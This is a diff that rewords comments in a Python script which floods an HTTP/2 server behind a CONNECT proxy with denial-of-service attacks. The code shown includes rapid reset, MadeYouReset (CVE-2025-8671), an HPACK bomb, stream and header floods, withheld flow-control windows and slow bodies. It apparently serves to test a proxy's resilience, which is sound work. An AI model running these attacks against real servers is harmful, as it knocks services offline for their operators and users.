@@ -1,13 +1,13 @@
 """Attacks on an HTTP/2 server (RFC 9113 section 10.5), inside a CONNECT: http2_attack.py --proxy PORT --ca FILE
 --authority A ATTACK
 
-An attack goes on until the proxy ends the connection, or it has done it as often as it says. Prints
+An attack continues until the proxy closes the connection, or for a fixed number of times. Prints
 
-    {"event": "attack"}   when it has begun
+    {"event": "attack"}   when it starts
     {"event": "over", "ended": whether the proxy has ended the connection, "code", "text" of its GOAWAY, "resets",
     "statuses"}
 
-With --connections N that many attack at one time, and each begins again when it is over, until the program is ended.
+With --connections N, that many attack at a time, and each starts again at its end, until the program is stopped.
 --large PATH is a response of many megabytes.
 """
 
@@ -40,7 +40,7 @@ parser.add_argument("--large", default="/large/10000000")
 parser.add_argument("attack")
 options = parser.parse_args()
 AUTHORITY = options.authority
-# As often as none of the limits allows.
+# More often than any limit allows.
 MANY = 100_000
 
 
@@ -53,7 +53,7 @@ def frame(kind, stream, payload=b"", flags=0):
 
 
 async def flood(wire, make, times=MANY):
-    """The frames that `make(n)` returns, until the connection ends."""
+    """Sends the frames that `make(n)` returns, until the connection ends."""
     for number in range(times):
         if wire.is_over or wire.transport.is_closing():
             return
@@ -73,7 +73,7 @@ async def rapid_reset(wire):
 
 
 async def made_you_reset(wire, make):
-    """CVE-2025-8671: what the server has to reset costs the client no RST_STREAM."""
+    """CVE-2025-8671: the server has to send the RST_STREAMs, at no cost to the client."""
 
     def request(_):
         number = wire.request(fields(method="POST"), end=False)
@@ -173,7 +173,7 @@ async def goaways(wire):
 
 
 async def table_sizes(wire):
-    """A block that does nothing but change the size of the table."""
+    """Sends blocks that only change the table's size."""
     await flood(
         wire,
         lambda number: [HeadersFrame(2 * number + 1, b"\x20\x3f\xe1\x1f" * 100, flags=["END_HEADERS", "END_STREAM"])],
@@ -181,11 +181,10 @@ async def table_sizes(wire):
 
 
 async def hpack_bomb(wire):
-    """A field of 4000 bytes that goes into the table, and is named thousands of times by one byte each."""
+    """Puts a field of 4000 bytes into the table. Thousands of bytes then refer to it, one each."""
     first = wire.request(fields("/echo", "GET", ("x-bomb", "b" * 3900)))
     await answer(wire, first)
-    # 0x01: a literal that stays out of the table (RFC 7541 section 6.2.2); 0xBE: the newest entry of it (section
-    # 2.3.3).
+    # 0x01: a literal without indexing (RFC 7541 section 6.2.2); 0xBE: the table's newest entry (section 2.3.3).
     for _ in range(20):
         number, wire.next = wire.next, wire.next + 2
         wire.streams[number] = http2_wire.Stream()
@@ -195,7 +194,7 @@ async def hpack_bomb(wire):
 
 
 async def long_heads(wire):
-    """Each is over the limit, and each is told so."""
+    """Each exceeds the limit, and gets a response that says so."""
     for _ in range(20):
         await answer(wire, wire.request(fields("/echo", "GET", *((f"x-{number}", "v" * 1000) for number in range(80)))))
 
@@ -206,14 +205,14 @@ async def too_many_fields(wire):
 
 
 async def too_many_streams(wire):
-    """A thousand at one time, of a hundred that are allowed."""
+    """Opens a thousand streams at once; a hundred are allowed."""
     for _ in range(1000):
         wire.request(fields("/hold/many"))
     await wire.until(lambda: wire.goaways)
 
 
 async def closed_windows(wire):
-    """Large responses, for which no window opens."""
+    """Requests large responses, and opens no window for them."""
     wire.write(SettingsFrame(0, settings={4: 0}))
     for _ in range(100):
         wire.request(fields(options.large), held=True)
@@ -221,13 +220,13 @@ async def closed_windows(wire):
 
 
 async def unread_responses(wire):
-    """Nothing is read from the socket."""
+    """Reads nothing from the socket."""
     for _ in range(100):
         wire.request(fields(options.large))
     wire.transport.pause_reading()
     await asyncio.sleep(3)
     while True:
-        # It is seen by what can't be written any more.
+        # The proxy's reaction shows in failing writes.
         wire.write(PingFrame(0, b"whatever"))
         if wire.transport.is_closing():
             break
@@ -236,7 +235,7 @@ async def unread_responses(wire):
 
 
 async def slow_bodies(wire):
-    """A byte now and then, in a hundred streams."""
+    """Sends a byte now and then, in a hundred streams."""
     numbers = [wire.request(fields("/echo", "POST", ("content-length", "100000")), end=False) for _ in range(100)]
     while not wire.is_over and not all(
         wire.streams[number].code is not None or wire.streams[number].heads for number in numbers
@@ -258,7 +257,7 @@ async def attack():
     await wire.until(lambda: wire.has_settings)
     say("attack")
     await globals()[options.attack.replace("-", "_")](wire)
-    # What is on its way still counts; then the connection serves, or has ended.
+    # Frames in flight still count; afterwards the connection serves, or has ended.
     wanted = wire.pongs + 1
     if not wire.is_over and not wire.transport.is_closing():
         wire.write(PingFrame(0, b"the last"))
@@ -284,7 +283,7 @@ async def again():
         try:
             await attack()
         except BrokenPipeError:
-            # Nobody listens any more.
+            # The reader of the output has gone.
             return
         except OSError:
             await asyncio.sleep(0.1)
